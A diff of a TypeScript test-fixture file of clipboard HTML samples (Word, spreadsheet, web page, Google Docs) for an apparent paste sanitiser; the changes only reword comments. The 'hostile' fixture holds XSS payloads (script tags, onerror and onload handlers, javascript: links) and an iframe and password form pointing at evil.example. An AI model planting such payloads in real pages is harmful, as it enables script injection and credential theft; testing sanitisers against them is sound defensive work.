@@ -1,6 +1,6 @@
 /**
- * What Word puts on the clipboard: paragraphs that look like items, with their signs as text between comments, numbered
- * headings, lines broken anywhere, a table of paragraphs.
+ * What Word puts on the clipboard: paragraphs that look like list items, with their markers as text between comments,
+ * numbered headings, lines broken anywhere, a table of paragraphs.
  */
 export const wordLists = `<html xmlns:o="urn:schemas-microsoft-com:office:office" xmlns:w="urn:schemas-microsoft-com:office:word" xmlns="http://www.w3.org/TR/REC-html40">
 <head><meta http-equiv=Content-Type content="text/html; charset=utf-8"><meta name=Generator content="Microsoft Word 15">
@@ -37,17 +37,17 @@ export const spreadsheet = `<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:
 <!--EndFragment-->
 </table></body></html>`
 
-/** A piece of a page of the web, with code as documentation sites show it. */
+/** Part of a web page, with code as documentation sites show it. */
 export const webPage = `<meta charset='utf-8'><h2 style="box-sizing: border-box; font-weight: 600;"><span>Install</span></h2>
 <p style="margin: 0 0 16px">Run <a href="https://example.com/tool" onclick="steal()">the tool</a> with <code>npm i</code>:</p>
 <div class="highlight highlight-source-bash"><pre>npm i tool<br>tool --help</pre><button class="copy">Copy</button></div>
 <script>window.acted = 1</script><style>p{color:red}</style><noscript>No scripts</noscript>
 <blockquote><p>Quoted.</p></blockquote><p></p><br class="Apple-interchange-newline">`
 
-/** What a document of Google puts on the clipboard: all of it in a tag that is not bold, lists inside of lists, marks as styles. */
+/** What Google Docs puts on the clipboard: all in a `<b>` that is not bold, lists inside lists, marks as styles. */
 export const googleDocs = `<meta charset='utf-8'><b style="font-weight:normal;" id="docs-internal-guid-1"><h2 dir="ltr" style="line-height:1.38;margin-top:18pt;"><span style="font-size:16pt;font-weight:400;">Notes</span></h2><p dir="ltr" style="line-height:1.38;"><span style="font-size:11pt;font-weight:400;">Normal </span><span style="font-size:11pt;font-weight:700;">heavy</span><span style="font-size:11pt;font-weight:400;font-style:italic;"> slanted</span></p><br /><ul style="margin-top:0;margin-bottom:0;"><li dir="ltr" style="list-style-type:disc;font-weight:400;" aria-level="1"><p dir="ltr" style="line-height:1.38;" role="presentation"><span style="font-size:11pt;font-weight:400;">one</span></p></li><ul style="margin-top:0;"><li dir="ltr" style="list-style-type:circle;" aria-level="2"><p dir="ltr" role="presentation"><span style="font-weight:400;">inside</span></p></li></ul><li dir="ltr" style="list-style-type:disc;" aria-level="1"><p dir="ltr" role="presentation"><span style="font-weight:400;text-decoration:line-through;">two</span></p></li></ul><div dir="ltr" style="margin-left:0pt;" align="left"><table style="border:none;border-collapse:collapse;"><colgroup><col /><col /></colgroup><tbody><tr style="height:0pt"><td style="border:solid #000 1pt;"><p dir="ltr"><span style="font-weight:400;">a</span></p></td><td><p dir="ltr"><span>b</span></p></td></tr><tr style="height:0pt"><td><p dir="ltr"><span>1</span></p></td><td><br /></td></tr></tbody></table></div></b><br class="Apple-interchange-newline">`
 
-/** HTML that would act if it came in. */
+/** HTML that would run scripts if it were inserted. */
 export const hostile = `<p><strong>kept</strong><script>window.acted = 1</script><img src="x" onerror="window.acted = 1">
 <a href="javascript:alert(1)">link</a><svg onload="alert(1)"><a xlink:href="javascript:alert(1)"></a></svg>
 <iframe src="https://evil.example"></iframe><form action="https://evil.example"><input name="password"></form>
